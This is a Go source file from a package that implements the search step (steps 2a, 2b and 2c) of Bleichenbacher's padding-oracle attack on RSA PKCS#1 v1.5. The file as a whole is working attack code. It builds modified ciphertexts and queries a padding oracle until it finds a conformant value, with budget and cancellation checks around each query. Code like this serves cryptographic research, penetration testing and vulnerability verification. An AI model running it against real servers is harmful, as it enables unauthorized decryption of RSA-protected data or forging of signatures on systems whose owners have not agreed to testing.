package bleichenbacher

import (
	"context"
	"math/big"

	"github.com/paddingoracle/bleichenbacher/hexutil"
	"github.com/paddingoracle/bleichenbacher/internal/bbmath"
)

// search implements step 2: it finds the next conformant sI, dispatching to
// 2a, 2b or 2c based on the iteration and the current interval count, then
// issues oracle queries against c0 until one succeeds.
func (eng *Engine) search(ctx context.Context) error {
	switch {
	case eng.i == 1:
		return eng.search2a(ctx)
	case len(eng.m) >= 2:
		return eng.search2b(ctx)
	default:
		return eng.search2c(ctx)
	}
}

// tryS queries the oracle for prepare(c0, s), returning whether it was
// conformant.
func (eng *Engine) tryS(ctx context.Context, s *big.Int) (bool, error) {
	if err := eng.checkCancelled(ctx); err != nil {
		return false, err
	}
	if err := eng.checkBudget(); err != nil {
		return false, err
	}

	data, err := eng.builder.Prepare(eng.c0, s)
	if err != nil {
		return false, err
	}

	eng.log.Trace("search query", "s", s, "query", hexutil.Encode(data))

	ok, err := eng.oracle.CheckConformant(ctx, data)
	if err != nil {
		return false, &OracleError{Cause: err}
	}
	return ok, nil
}

// search2a starts sI at ceil(n / 3B) and increments by 1 until conformant.
// Used only on the first iteration.
func (eng *Engine) search2a(ctx context.Context) error {
	threeB := new(big.Int).Add(eng.threeBminus1, big.NewInt(1))
	s := bbmath.CeilDiv(eng.n, threeB)

	eng.log.Debug("step 2a search start", "s", s)

	for {
		ok, err := eng.tryS(ctx, s)
		if err != nil {
			return err
		}
		if ok {
			eng.sI = s
			return nil
		}
		s = new(big.Int).Add(s, big.NewInt(1))
	}
}

// search2b continues incrementing sI by 1 from the last value, used when
// more than one interval survives narrowing.
func (eng *Engine) search2b(ctx context.Context) error {
	s := new(big.Int).Add(eng.sI, big.NewInt(1))

	eng.log.Debug("step 2b search start", "s", s)

	for {
		ok, err := eng.tryS(ctx, s)
		if err != nil {
			return err
		}
		if ok {
			eng.sI = s
			return nil
		}
		s = new(big.Int).Add(s, big.NewInt(1))
	}
}

// search2c searches (r, s) pairs once the interval set has collapsed to a
// single [a, b]. r starts at ceil(2*(b*sPrev - 2B) / n) (the factor of 2 is
// a convergence heuristic carried over verbatim, not a correctness
// requirement: the window recomputation below keeps advancing r until it
// finds a conformant s, wherever r starts, though which s it finds first
// depends on the starting r). For each r, s ranges over
// [ceil((2B + r*n) / b), floor((3B-1 + r*n) / a)].
func (eng *Engine) search2c(ctx context.Context) error {
	a, b := eng.m[0].Lo, eng.m[0].Hi

	rNum := new(big.Int).Mul(b, eng.sI)
	rNum.Sub(rNum, eng.twoB)
	rNum.Mul(rNum, big.NewInt(2))
	r := bbmath.CeilDiv(rNum, eng.n)

	eng.log.Debug("step 2c search start", "r", r)

	for {
		rn := new(big.Int).Mul(r, eng.n)

		loNum := new(big.Int).Add(eng.twoB, rn)
		sLo := bbmath.CeilDiv(loNum, b)

		hiNum := new(big.Int).Add(eng.threeBminus1, rn)
		sHi := bbmath.FloorDiv(hiNum, a)

		for s := new(big.Int).Set(sLo); s.Cmp(sHi) <= 0; s.Add(s, big.NewInt(1)) {
			ok, err := eng.tryS(ctx, s)
			if err != nil {
				return err
			}
			if ok {
				eng.sI = new(big.Int).Set(s)
				return nil
			}
		}

		r = new(big.Int).Add(r, big.NewInt(1))
	}
}
